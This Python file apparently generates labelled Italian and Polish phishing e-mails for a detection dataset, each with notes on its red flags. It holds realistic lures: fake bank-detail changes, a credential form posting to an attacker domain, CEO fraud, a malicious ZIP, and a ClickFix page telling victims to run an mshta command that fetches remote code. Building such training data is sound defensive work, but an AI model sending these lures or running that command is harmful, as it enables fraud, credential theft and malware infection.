"""Attack messages 17-26 (Italian 17-21, Polish 22-26)."""
from common import A, alt, brand, mixed, plain, pdf_att, zip_att, quote_outlook, exch_id, m365_id, S, SIG
from mime import Bin
from msg import Msg
from people import r_partner
from routes import Aruba, Mailgun, VPS, Libero, Hotmail, Exim, SendGrid, Brevo, SES
from codes import fmt_iban
import refs


def phish_form_html(title, brand_name, color, action, fields, note, lang='it'):
    rows = ''.join(f'<label style="display:block;margin:12px 0 4px;font-size:13px;color:#333">{lab}</label>'
                   f'<input type="{typ}" name="{nm}" value="{val}" style="width:100%;padding:9px;border:1px solid #bbb;'
                   f'border-radius:3px;font-size:14px">\n' for lab, typ, nm, val in fields)
    return (f'<!DOCTYPE html>\n<html lang="{lang}">\n<head>\n<meta charset="utf-8">\n<title>{title}</title>\n'
            f'<meta name="viewport" content="width=device-width, initial-scale=1">\n</head>\n'
            f'<body style="margin:0;background:#eef1f5;font-family:Titillium Web,Arial,sans-serif">\n'
            f'<div style="background:{color};color:#fff;padding:16px 28px;font-size:20px;font-weight:bold">{brand_name}</div>\n'
            f'<div style="max-width:460px;margin:40px auto;background:#fff;padding:28px 32px;border-radius:4px;'
            f'box-shadow:0 1px 4px rgba(0,0,0,.15)">\n<h2 style="margin-top:0;font-size:20px;color:#17324d">{title}</h2>\n'
            f'<p style="font-size:13px;color:#555">{note}</p>\n'
            f'<form method="post" action="{action}">\n{rows}'
            f'<button type="submit" style="margin-top:20px;width:100%;padding:11px;background:{color};color:#fff;'
            f'border:0;border-radius:3px;font-size:15px">Accedi</button>\n</form>\n</div>\n</body>\n</html>\n')


def messages():
    out = []

    # ------------------------------------------------------------------ 17
    t = f"""Gentile dott.ssa Ricci,

con la presente Vi comunichiamo che, a seguito di una riorganizzazione dei nostri rapporti bancari, a far data dal 16/10/2026 tutti i pagamenti delle nostre fatture dovranno essere effettuati esclusivamente sul seguente conto corrente:

Intestatario: Ferretti Trasporti S.p.A.
Banca: Banca Popolare di Sondrio – Sede di Milano
IBAN: {fmt_iban(refs.FERR_FRAUD)}
BIC: POSOIT22XXX

Il precedente conto presso Intesa Sanpaolo resterà attivo solo per gli incassi già in corso e verrà estinto a fine mese. Vi chiediamo pertanto di aggiornare la Vostra anagrafica fornitori e di disporre sulle nuove coordinate il pagamento delle fatture n. 2026/1874 e 2026/1921 (totale € 18.640,00), scadute il 30/09.

In allegato la comunicazione ufficiale su carta intestata firmata dal nostro Amministratore Delegato.

Restiamo a disposizione via e-mail per qualsiasi chiarimento.

Cordiali saluti

Chiara Colombo
Ufficio Traffico
Ferretti Trasporti S.p.A.
Via Mantova 118 – 25086 Rezzato (BS)
"""
    letter = f"""# Ferretti Trasporti S.p.A.
Via Mantova 118 - 25086 Rezzato (BS) - P.IVA {refs.FERR_PIVA}

Spett.le Example Group Italia S.r.l.
Ufficio Amministrazione

Rezzato, 15/10/2026

## Oggetto: comunicazione variazione coordinate bancarie

Con la presente si comunica che a decorrere dal 16/10/2026 i pagamenti a nostro favore dovranno essere effettuati esclusivamente sul seguente conto:

Banca Popolare di Sondrio - Sede di Milano
IBAN: {fmt_iban(refs.FERR_FRAUD)}
BIC: POSOIT22XXX

Distinti saluti
L'Amministratore Delegato
Giancarlo Ferretti
"""
    out.append(Msg(A, 17, 'it', 'ferretti-variazione-iban-lookalike',
                   frm=('Chiara Colombo', 'c.colombo@ferreti-trasporti.it'), to=[S('it_acc')],
                   subject='Ferretti Trasporti – comunicazione variazione coordinate bancarie',
                   date=(2026, 10, 15, 16, 20, 34), route=Aruba(client_ip='91.218.114.31'),
                   body=mixed(alt(t, 'iso-8859-15', 'quoted-printable', lang='it'),
                              pdf_att('Comunicazione_variazione_IBAN_Ferretti.pdf', letter,
                                      when=(2026, 10, 15, 16, 2, 0))),
                   hcs='iso-8859-15',
                   what='Carrier "Ferretti Trasporti" announces new bank details and asks to pay two overdue invoices (EUR 18,640) there; signed letter as PDF.',
                   why='Look-alike domain ferreti-trasporti.it (one "t" missing), registered at the same Italian host as the real carrier; written by the dispatcher rather than the carrier\'s accounts department; overdue-invoice pressure and e-mail-only contact. Genuine Ferretti invoices (business 17) come from amministrazione@ferretti-trasporti.it with the Intesa Sanpaolo IBAN.'))

    # ------------------------------------------------------------------ 18
    action = 'https://fatturapa-notifiche.it/ivaservizi/auth/login.php'
    form = phish_form_html('Accesso a Fatture e Corrispettivi', 'Agenzia delle Entrate – Fatture e Corrispettivi',
                           '#0066cc', action,
                           [('Codice fiscale', 'text', 'cf', ''), ('Password Entratel/Fisconline', 'password', 'pw', ''),
                            ('PIN', 'password', 'pin', '')],
                           'Per visualizzare il dettaglio della notifica di scarto e reinviare il file corretto '
                           'accedi con le credenziali Entratel/Fisconline del gestore incaricato.')
    t = f"""Gentile Contribuente,

il Sistema di Interscambio ha scartato il file IT{refs.EG_IT_PIVA}_a8K2P.xml relativo alla fattura n. FPR 1187/26 del 20/10/2026 per il seguente motivo:

Codice errore 00305 – IdFiscaleIVA del CessionarioCommittente non valido

Ai sensi delle specifiche tecniche vigenti la fattura scartata si considera non emessa. Per evitare le sanzioni previste dall'art. 6 del D.Lgs. 471/1997 è necessario trasmettere il file corretto entro 5 giorni dalla data della presente notifica.

In allegato il dettaglio della notifica, consultabile con qualsiasi browser.

Agenzia delle Entrate
Servizi telematici – Fatture e Corrispettivi
"""
    out.append(Msg(A, 18, 'it', 'sdi-notifica-scarto-html',
                   frm=('Agenzia delle Entrate – Fatture e Corrispettivi', 'noreply@fatturapa-notifiche.it'),
                   to=[S('it_acc')], subject=f'SdI – Notifica di scarto fattura n. FPR 1187/26 – IT{refs.EG_IT_PIVA}',
                   date=(2026, 10, 22, 6, 40, 18), route=Mailgun(sub='mg'),
                   body=mixed(plain(t, 'utf-8', 'base64'),
                              Bin(form.encode('utf-8'), 'text/html', f'Notifica_Scarto_IT{refs.EG_IT_PIVA}_a8K2P.html',
                                  ctype_params='charset="utf-8"', note='credential form, no script')),
                   hcs='utf-8',
                   what='"SdI" rejection notice for an e-invoice with an HTML attachment "detail of the notice".',
                   why='SdI notices are delivered by PEC from the SdI as XML files, not by ordinary mail via Mailgun from fatturapa-notifiche.it; the HTML attachment is a local credential page (codice fiscale, Entratel password, PIN) posting to the attacker; penalty and 5-day deadline as pressure.'))

    # ------------------------------------------------------------------ 19
    pay = 'https://adm-pagamenti.it/pagopa/avviso?iuv=302026110418877&cf=' + refs.EG_IT_PIVA
    t = """Spett.le Example Group Italia S.r.l.,

con riferimento alla dichiarazione doganale di importazione MRN 26IT1X0G7F3K8A2B4C (coils laminati a caldo, codice TARIC 7208 38 00 90, origine Turchia), l'Ufficio delle Dogane di Genova ha rilevato in sede di controllo a posteriori l'esaurimento del contingente tariffario applicabile alla data di accettazione della dichiarazione, previsto dalla misura di salvaguardia sui prodotti siderurgici.

È pertanto dovuto il dazio fuori contingente, pari a € 11.482,60, oltre interessi.

Il pagamento deve essere effettuato entro 5 giorni dal ricevimento del presente avviso tramite il circuito pagoPA:

[[Paga l'avviso con pagoPA|""" + pay + """]]

In mancanza di pagamento si procederà all'iscrizione a ruolo delle somme dovute, con applicazione delle sanzioni previste dal D.Lgs. 141/2024, e la merce in giacenza relativa a successive dichiarazioni potrà essere sottoposta a fermo amministrativo.

Agenzia delle Dogane e dei Monopoli
Ufficio delle Dogane di Genova – Sezione Riscossione
"""
    out.append(Msg(A, 19, 'it', 'dogane-dazio-salvaguardia-pagopa',
                   frm=('Agenzia delle Dogane e dei Monopoli', 'avvisi@adm-pagamenti.it'), to=[S('it_mgr')],
                   subject='Avviso di pagamento – dazio fuori contingente – MRN 26IT1X0G7F3K8A2B4C',
                   date=(2026, 11, 10, 10, 5, 51),
                   route=VPS(host='mail.adm-pagamenti.it', ip='51.75.147.212', rdns='vps-5e1c2a7b.vps.ovh.net'),
                   body=alt(t, 'windows-1252', 'quoted-printable', flavour='generic', lang='it'), hcs='windows-1252',
                   what='"Customs agency" demands EUR 11,482.60 out-of-quota safeguard duty on a steel-coil import, payable within 5 days via a "pagoPA" link.',
                   why='Customs debts are notified formally to the importer/customs broker, not by an e-mail from adm-pagamenti.it (PHPMailer on an OVH VPS); the pagoPA link is a card-payment page on the attacker\'s domain; realistic trade detail (TARIC code, steel safeguard quota) and seizure threat. Compare the genuine customs broker mail (business 21).'))

    # ------------------------------------------------------------------ 20
    cmd = 'mshta https://cdn-docverify.click/v/ord2611'
    clickfix = f"""<!DOCTYPE html>
<html lang="it">
<head><meta charset="utf-8"><title>Documento protetto - Verifica</title></head>
<body style="margin:0;background:#f2f2f2;font-family:Segoe UI,Arial,sans-serif">
<div style="max-width:560px;margin:60px auto;background:#fff;border:1px solid #ddd;padding:30px 36px">
<div style="font-size:13px;color:#888">Ordine_Dicembre_CarpenteriaRossi.pdf - 412 KB</div>
<h2 style="font-size:21px;color:#222">Verifica di sicurezza richiesta</h2>
<p style="font-size:14px;color:#444">Il documento è protetto. Per visualizzarlo conferma di non essere un robot completando i passaggi seguenti:</p>
<ol style="font-size:14px;color:#444;line-height:24px">
<li>Premi contemporaneamente il tasto <b>Windows</b> + <b>R</b></li>
<li>Incolla il codice di verifica qui sotto (<b>CTRL</b> + <b>V</b>)</li>
<li>Premi <b>Invio</b> per completare la verifica</li>
</ol>
<div style="background:#f7f7f7;border:1px dashed #bbb;padding:10px;font-family:Consolas,monospace;font-size:13px">{cmd} # Verifica ID: 8841-2611</div>
<p style="font-size:12px;color:#999">Ray ID: 8f3a21c0b7e94d12 - Protezione documento</p>
</div>
</body>
</html>
"""
    t = """Buonasera Davide,

ti mando in allegato l'ordine per dicembre con le misure delle lamiere e i tagli a disegno. Il file è protetto, quando lo apri segui le istruzioni per la verifica.

Fammi sapere prezzi e tempi di consegna appena puoi.

Grazie, ciao
Luca Rossi
Carpenteria Rossi s.n.c.
"""
    out.append(Msg(A, 20, 'it', 'clickfix-ordine-cliente-compromesso',
                   frm=('Carpenteria Rossi', 'carpenteria.rossi@libero.it'), to=[S('it_sales')],
                   subject='ordine lamiere dicembre', date=(2026, 11, 24, 17, 50, 26),
                   route=Libero(client_ip='41.216.188.74'),
                   body=mixed(plain(t, 'iso-8859-1', '8bit'),
                              Bin(clickfix.encode('utf-8'), 'text/html', 'Ordine_Dicembre_CarpenteriaRossi.html',
                                  ctype_params='charset="utf-8"', note='ClickFix instructions, no script')),
                   hcs='iso-8859-1',
                   what='Small customer sends the "December order" as a protected HTML document that asks to verify with Win+R / Ctrl+V / Enter.',
                   why='ClickFix: the page makes the user paste and run an mshta command that fetches code from cdn-docverify.click; customers send orders as PDF/Excel, never as HTML needing "verification"; the customer\'s libero.it mailbox is used from an African IP (compromised account).'))

    # ------------------------------------------------------------------ 21
    t = """Ciao Marco,

sei in ufficio? Ho bisogno del tuo aiuto per una questione riservata legata a un'acquisizione che stiamo chiudendo in Italia.

Mandami per favore il tuo numero di cellulare, ti scrivo su WhatsApp: sono in riunione con gli avvocati tutto il giorno e non posso telefonare.

Per ora non parlarne con nessuno, né con Giulia né con Düsseldorf. Ti spiego tutto più tardi.

Grazie
Thomas
"""
    out.append(Msg(A, 21, 'it', 'ceo-fraud-whatsapp',
                   frm=('Thomas Becker', 't.becker.ceo@outlook.com'), to=[S('it_mgr')],
                   subject='Riservato', date=(2026, 12, 3, 8, 15, 7),
                   route=Hotmail(tz='UTC', lang='it-IT'),
                   body=alt(t, 'iso-8859-1', 'quoted-printable', lang='it'), hcs='iso-8859-1',
                   what='"Thomas Becker" asks the Italian office manager for his mobile number to continue on WhatsApp about a confidential acquisition.',
                   why='CEO impersonation from an outlook.com address; moves the conversation to WhatsApp to escape company controls; secrecy towards the accountant and HQ: first stage of the "truffa del CEO".'))

    # ------------------------------------------------------------------ 22
    t = f"""Szanowni Państwo,

uprzejmie informujemy, że w związku ze zmianą banku obsługującego naszą spółkę od dnia 20.10.2026 r. płatności za faktury prosimy kierować wyłącznie na nowy rachunek bankowy:

Partner Logistik sp. z o.o.
Santander Bank Polska S.A.
{fmt_iban(refs.PARTNER_FRAUD)}

Nowy rachunek został zgłoszony do urzędu skarbowego i pojawi się w wykazie podatników VAT (biała lista) w ciągu kilku dni roboczych. Do tego czasu prosimy o realizację przelewów bez mechanizmu podzielonej płatności.

Jednocześnie prosimy o uregulowanie na powyższy rachunek faktur FV/2026/10/0412 i FV/2026/10/0433 na łączną kwotę 47 380,20 zł.

Z poważaniem

Dział Księgowości
Partner Logistik sp. z o.o.
ul. Portowa 17, 44-100 Gliwice
"""
    out.append(Msg(A, 22, 'pl', 'partner-logistik-zmiana-rachunku-lookalike',
                   frm=('Księgowość Partner Logistik', 'ksiegowosc@partner-logistic.pl'), to=[S('pl_acc')],
                   subject='Zmiana numeru rachunku bankowego – Partner Logistik sp. z o.o.',
                   date=(2026, 10, 19, 12, 32, 8),
                   route=Exim(server='s108.cyber-folks.pl', server_ip='195.78.66.108', mua='outlook16',
                              client_ip='89.117.62.15', client_helo='DESKTOP-H3K91LQ'),
                   body=plain(t, 'iso-8859-2', 'quoted-printable'), hcs='iso-8859-2',
                   what='"Partner Logistik" accounting announces a new bank account and asks to pay two invoices (PLN 47,380) there without split payment.',
                   why='Look-alike partner-logistic.pl (c instead of k) on cPanel shared hosting instead of Partner Logistik\'s Microsoft 365; asks to pay to an account that is not on the VAT white list and to skip split payment, i.e. to switch off both Polish safeguards. Genuine invoice: business 22.'))

    # ------------------------------------------------------------------ 23
    trk = 'https://u48213997.ct.sendgrid.net/ls/click?upn=u001.Qm9YmV2a3F3Y0xOdWRxMWJjT2pHdz09-2FksefAutoryzacja'
    paras = [
        'Szanowni Państwo,',
        f'informujemy, że token uwierzytelniający wygenerowany w Krajowym Systemie e-Faktur dla kontekstu NIP {refs.EG_PL_NIP} (Example Group Polska sp. z o.o.) wygasa w dniu 11.11.2026 r.',
        'Brak ponownej autoryzacji spowoduje utratę możliwości wystawiania i odbierania faktur ustrukturyzowanych za pośrednictwem systemu finansowo-księgowego. Faktury wystawione poza KSeF w okresie obowiązku nie będą uznawane za prawidłowo wystawione, co może skutkować nałożeniem kary pieniężnej.',
        'Ponownej autoryzacji można dokonać za pomocą Profilu Zaufanego, e-Dowodu lub kwalifikowanego podpisu elektronicznego.',
    ]
    body = brand('Krajowy System e-Faktur – wygaśnięcie tokenu', paras, ('Autoryzuj dostęp do KSeF', trk),
                 'Wiadomość wygenerowana automatycznie – prosimy na nią nie odpowiadać.\nMinisterstwo Finansów – Krajowy System e-Faktur',
                 cs='utf-8', cte='quoted-printable', color='#c4161c', logo='KSeF – Krajowy System e-Faktur', lang='pl')
    out.append(Msg(A, 23, 'pl', 'ksef-token-wygasa',
                   frm=('Krajowy System e-Faktur', 'powiadomienia@ksef-podatki.pl'), to=[S('pl_acc')],
                   subject='KSeF: wygaśnięcie tokenu uwierzytelniającego – wymagana ponowna autoryzacja',
                   date=(2026, 11, 9, 7, 10, 42), route=SendGrid(em='em2290'), body=body, hcs='utf-8',
                   what='"KSeF" (Polish national e-invoicing system) warns that the company\'s access token expires and asks to re-authorise via Profil Zaufany.',
                   why='The Ministry of Finance does not send such notices from ksef-podatki.pl through SendGrid; the button leads via a SendGrid click tracker to a page harvesting Profil Zaufany/KSeF credentials; penalty threat and near deadline.'))

    # ------------------------------------------------------------------ 24
    paras = [
        'Dzień dobry,',
        'Twoja przesyłka nr 1000634871526U od nadawcy EXAMPLE GROUP GMBH nie mogła zostać doręczona z powodu nieuregulowanej dopłaty za przekroczenie wymiarów paczki.',
        'Kwota do zapłaty: 4,99 zł\nTermin: 27.11.2026',
        'Jeśli dopłata nie zostanie uregulowana w terminie, przesyłka zostanie zwrócona do nadawcy.',
    ]
    body = brand('Przesyłka wstrzymana', paras, ('Opłać i zaplanuj doręczenie', 'https://dpd-doreczenie.top/pl/1000634871526U'),
                 'DPD Polska sp. z o.o., ul. Mineralna 15, 02-274 Warszawa\nTo jest wiadomość automatyczna, prosimy nie odpowiadać.',
                 cs='windows-1250', cte='quoted-printable', color='#dc0032', logo='DPD', lang='pl')
    out.append(Msg(A, 24, 'pl', 'dpd-doplata-przesylka',
                   frm=('DPD Polska', 'powiadomienia@dpd-doreczenia.pl'), to=[S('pl_sales')],
                   subject='Przesyłka 1000634871526U wstrzymana – dopłata 4,99 zł',
                   date=(2026, 11, 26, 13, 22, 50), route=Brevo(), body=body, hcs='windows-1250',
                   what='"DPD Polska" says a parcel from HQ is held for a PLN 4.99 oversize surcharge.',
                   why='Courier payment phish: tiny amount to harvest card data on dpd-doreczenie.top; look-alike sender domain via Brevo (DPD uses dpd.com.pl); return-to-sender threat.'))

    # ------------------------------------------------------------------ 25
    orig = """Dzień dobry Panie Tadeuszu,

zlecamy transport 22 t blachy gorącowalcowanej (6 paczek) z Państwa magazynu w Gliwicach do naszego magazynu w Katowicach, załadunek 12.11.2026 od godz. 7:00. Proszę o potwierdzenie i dane kierowcy.

Pozdrawiam
""" + SIG['pl_sales']
    t = """Dzień dobry Panie Tomaszu,

w załączeniu przesyłam podpisane dokumenty CMR oraz protokół rozładunku do zlecenia ZT/2026/1187. Archiwum jest zabezpieczone hasłem ze względu na dane osobowe kierowców.

Hasło: PL1187

Proszę o potwierdzenie otrzymania.

Pozdrawiam
Tadeusz Zieliński
Kierownik ds. transportu
Partner Logistik sp. z o.o.
""" + quote_outlook('pl', S('pl_sales'), (2026, 11, 10, 9, 41), [('Tadeusz Zieliński', 't.zielinski@partner-logistik.pl')],
                    'Zlecenie transportowe ZT/2026/1187 – Gliwice → Katowice, 22 t blachy', orig)
    o1 = exch_id('zt1187-tomasz')
    b23 = m365_id('business-23', 'PA4PR09MB6832', 'eurprd09')
    out.append(Msg(A, 25, 'pl', 'thread-hijack-partner-zip-cmr',
                   frm=('Tadeusz Zieliński', 't.zielinski@partner-logistik.pl'), to=[S('pl_sales')],
                   subject='RE: Zlecenie transportowe ZT/2026/1187 – Gliwice → Katowice, 22 t blachy',
                   date=(2026, 12, 6, 21, 41, 3), route=r_partner(),
                   body=mixed(alt(t, 'iso-8859-2', 'quoted-printable', lang='pl'),
                              zip_att('CMR_ZT-2026-1187.zip', 'CMR_ZT-2026-1187_skan.pdf.lnk',
                                      (2026, 12, 6, 22, 30, 4), password='PL1187')),
                   in_reply_to=o1, references=[o1, b23], hcs='utf-8',
                   what='Carrier contact replies in a real transport-order thread with "signed CMR documents" in a password-protected ZIP.',
                   why='Sent from Partner Logistik\'s genuine Microsoft 365 mailbox, but on a Sunday night, three weeks after the transport was closed and the CMR scans were already sent as PDF (business 23); encrypted ZIP with the password in the body hides a .pdf.lnk shortcut: thread hijack from a compromised account delivering malware.'))

    # ------------------------------------------------------------------ 26
    paras = [
        'Dzień dobry,',
        'w ramach ochrony przed wyłudzeniami ładunków i podszywaniem się pod przewoźników przeprowadzamy obowiązkową weryfikację firm korzystających z Giełdy Ładunków i modułu Zleceń.',
        'Prosimy o zalogowanie się i potwierdzenie danych firmy Example Group Polska sp. z o.o. (ID firmy: 1184726) do dnia 31.10.2026 r. Konta niezweryfikowane zostaną czasowo zawieszone, a aktywne oferty ładunków i zlecenia – wycofane.',
    ]
    body = brand('Weryfikacja firmy na Platformie Trans.eu', paras,
                 ('Zweryfikuj firmę', 'https://platform-trans-eu.com/login?ref=verify&company=1184726'),
                 'Trans.eu Group S.A.\nWiadomość wysłana automatycznie, prosimy na nią nie odpowiadać.',
                 cs='utf-8', cte='quoted-printable', color='#0a58ca', logo='Trans.eu', lang='pl')
    out.append(Msg(A, 26, 'pl', 'trans-eu-weryfikacja-konta',
                   frm=('Trans.eu Platform', 'no-reply@trans-eu-platform.com'), to=[S('pl_mgr')],
                   subject='Twoje konto na Platformie Trans.eu zostanie zawieszone – weryfikacja firmy',
                   date=(2026, 10, 29, 14, 3, 37), route=SES(region='eu-central-1'), body=body, hcs='utf-8',
                   what='"Trans.eu" freight exchange demands a company verification by 31 Oct or the account is suspended.',
                   why='Credential phishing for the freight-exchange account (stolen accounts are used for cargo theft and fake carriers); look-alike platform-trans-eu.com / trans-eu-platform.com via Amazon SES; suspension threat with a 2-day deadline.'))
    return out
